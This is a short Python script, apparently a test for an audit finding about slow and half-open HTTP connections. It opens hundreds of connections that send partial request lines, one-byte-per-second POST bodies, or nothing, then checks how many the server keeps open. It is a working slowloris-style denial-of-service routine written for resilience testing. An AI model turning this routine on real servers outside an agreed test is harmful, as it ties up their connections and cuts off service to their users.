"""Finding 12: half request lines, bodies of an octet a second, connections that say nothing.
Taken if more than a tenth of them are open at the end."""
import loopback

arguments = loopback.parser(__doc__)
arguments.add_argument('--half', type=loopback.bounded(2000), default=500, help='half request lines')
arguments.add_argument('--bodies', type=loopback.bounded(2000), default=200, help='slow bodies')
arguments.add_argument('--idle', type=loopback.bounded(2000), default=500, help='that say nothing')
arguments.add_argument('--path', default='/broadcast?stream=chat:1', help='that takes a POST')
arguments = arguments.parse_args()
target = loopback.Target.of(arguments)
body = target.request('POST', arguments.path, [('Content-Type', 'application/json')], b' ' * 100_000)[:-99_999]
refused = 0


def opened(count, first):
    global refused
    made = []
    for _ in range(count):
        try:
            one = target.connect()
            one.sendall(first)
            made.append(one)
        except OSError:
            refused += 1
    return made


def octet(connection):
    if connection in bodies:
        try:
            connection.send(b' ')
        except BlockingIOError:
            pass
        except OSError:
            return False
    return True


bodies = set(opened(arguments.bodies, body))
all_of_them = list(bodies) + opened(arguments.half, b'GET / HT') + opened(arguments.idle, b'')
left = loopback.hold(target, all_of_them, each=octet)
loopback.verdict(left * 10 > len(all_of_them), '%d connections, %d could not connect, %d open at the end'
                 % (len(all_of_them), refused, left))
